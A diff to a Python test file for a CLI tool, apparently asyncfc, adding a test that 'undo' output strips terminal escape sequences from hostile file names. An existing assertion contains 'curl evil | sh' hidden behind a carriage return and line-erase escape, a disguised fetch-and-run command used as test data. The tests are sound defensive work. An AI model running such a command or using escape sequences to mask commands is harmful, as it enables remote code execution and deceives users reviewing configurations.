@@ -280,3 +280,20 @@ def test_what_trust_applies_is_shown_with_its_control_characters_visible(tmp_pat
     lines = describe_trust({".mcp.json": json.dumps(mcp).encode(), ".asyncfc.toml": b'"a\\u001b[2K" = 1\n'})
     assert not any(ch in line for line in lines for ch in "\r\x1b")
     assert any("curl evil | sh\\x0d\\x1b[2Knpx server-docs" in line for line in lines)
+
+
+def test_asyncfc_undo_prints_a_hostile_file_name_without_its_escape_sequence(tmp_path, monkeypatch):
+    """A repository's file may be named with an escape sequence; 'asyncfc undo' listed what it
+    restored with the name as it is."""
+    from asyncfc_cli import tool_commands
+    from asyncfc_cli.checkpoint import create_checkpoint, record_end
+
+    root = repo(tmp_path)
+    name = f"a{OSC_TITLE}b.txt"
+    (root / name).write_text("old\n")
+    checkpoint = create_checkpoint(root, "s1")
+    (root / name).write_text("new\n")
+    record_end(root, checkpoint)
+    text, code = tool_commands.undo_command(root)
+    assert code == 0 and "restored" in text and "\x1b" not in text
+    assert (root / name).read_text() == "old\n"
